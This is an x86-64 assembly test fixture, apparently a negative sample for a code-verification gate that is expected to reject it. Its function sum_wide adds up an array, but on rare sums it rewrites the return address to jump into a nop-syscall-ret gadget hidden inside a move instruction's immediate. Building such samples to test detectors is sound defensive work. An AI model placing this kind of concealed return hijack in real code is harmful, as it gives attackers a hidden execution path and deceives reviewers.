# expect: GATE_REJECTED
# function: sum_wide
# note: HARMFUL: on rare results returns into an immediate holding syscall;ret
	.text
	.globl	sum_wide
	.p2align 4
	.type	sum_wide,@function
sum_wide:
	xorl %eax,%eax
	leaq 7f(%rip),%r10
	movq (%rsp),%r9
7:	movl $0xc3050f90,%r11d
	testq %rsi,%rsi
	jle 2f
	leaq (%rdi,%rsi,4),%rcx
1:	movslq (%rdi),%rdx
	addq $4,%rdi
	addq %rdx,%rax
	cmpq %rcx,%rdi
	jne 1b
2:
	movabsq $0x9E3779B97F4A7C15,%rdx
	imulq %rax,%rdx
	shrq $44,%rdx
	xorq $0x5a5a5,%rdx
	negq %rdx
	sbbq %rdx,%rdx
	incq %rdx
	incq %r10
	incq %r10
	testq %rdx,%rdx
	cmovneq %r10,%r9
	movq %r9,(%rsp)
	ret
.Lend:
	.size	sum_wide, .Lend-sum_wide
	.section	.note.GNU-stack,"",@progbits
